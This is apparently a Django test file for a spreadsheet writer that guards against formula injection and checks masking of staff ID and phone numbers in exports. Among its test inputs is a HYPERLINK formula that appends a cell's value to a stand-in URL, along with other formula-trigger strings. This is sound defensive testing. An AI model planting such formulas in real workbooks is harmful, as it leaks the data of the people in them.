"""The one .xlsx writer: text stays text (no formula ever), and no other module writes workbooks."""

import ast
import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from batch.writing import CellWriter, open_workbook
from organisations.models import StaffMember
from tests.batch.helpers import read_rows, sheet_xml
from tests.batch.test_list_exports import export, exported_rows, give_role

FORMULA_NAME = '=HYPERLINK("http://x"&C5,"张三")'
ROOT = Path(__file__).resolve().parents[2]


def written(values) -> bytes:
    buffer = io.BytesIO()
    book = open_workbook(buffer)
    cells = CellWriter(book)
    sheet = book.add_worksheet()
    for col, value in enumerate(values):
        cells.cell(sheet, 0, col, value)
    book.close()
    return buffer.getvalue()


def test_strings_that_look_like_formulas_are_written_as_quoted_text():
    values = [FORMULA_NAME, "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "张三"]
    content = written(values)
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    assert read_rows(content) == [values]
    # The five trigger cells carry the quote prefix (Excel keeps them text when edited); the plain name does not.
    styles = re.findall(r'<c r="([A-Z]+)1"(?: s="(\d+)")? t="s"', xml)
    assert [ref for ref, style in styles if style] == ["A", "B", "C", "D", "E", "F"]


def test_typed_values_keep_their_types():
    content = written([3, 2.5, True, datetime.date(2026, 3, 1)])
    assert read_rows(content) == [[3.0, 2.5, "是", datetime.date(2026, 3, 1)]]


def test_no_module_but_the_writer_uses_xlsxwriter():
    """Every .xlsx the project produces goes through batch.writing (tests and the benchmark's input files aside)."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "tests", "bench", "var") or relative == Path("batch/writing.py"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            if any(name.split(".")[0] in ("xlsxwriter", "openpyxl") for name in names):
                offenders.append(str(relative))
    assert offenders == []


@pytest.mark.django_db
def test_staff_export_writes_a_formula_name_as_text(client, admin_a, enterprise_a, run_on_commit):
    StaffMember.objects.create(organisation=enterprise_a, name=FORMULA_NAME, id_number="41010519900307123X",
                               gender="male", birth_date=datetime.date(1990, 3, 7), mobile="13812345678")
    client.force_login(admin_a)
    response = export(client, run_on_commit, "staff")
    rows = exported_rows(client, response)
    assert rows[1][:2] == [FORMULA_NAME, "41010519900307123X"]
    from batch.models import BatchJob
    from tests.batch.helpers import response_bytes

    job = BatchJob.objects.get(kind="export")
    xml = sheet_xml(response_bytes(client.get(reverse("batch:download_result", args=[job.pk]))))
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.django_db
def test_staff_export_masks_for_a_reader_without_personal_data(client, enterprise_a, run_on_commit):
    from tests.traineeships.test_register import member_with

    StaffMember.objects.create(organisation=enterprise_a, name="李四", id_number="41010519900307123X",
                               gender="male", birth_date=datetime.date(1990, 3, 7), mobile="13812345678")
    reader = member_with(enterprise_a, "staffonly", "organisations.manage_staff")
    client.force_login(reader)
    rows = exported_rows(client, export(client, run_on_commit, "staff"))
    assert rows[1][1] == "4101**********123X"
    assert rows[1][4] == "138****5678"
    give_role(reader, ["organisations.view_personal_data"])
    from batch.models import BatchJob

    BatchJob.objects.all().delete()
    rows = exported_rows(client, export(client, run_on_commit, "staff"))
    assert rows[1][1] == "41010519900307123X" and rows[1][4] == "13812345678"
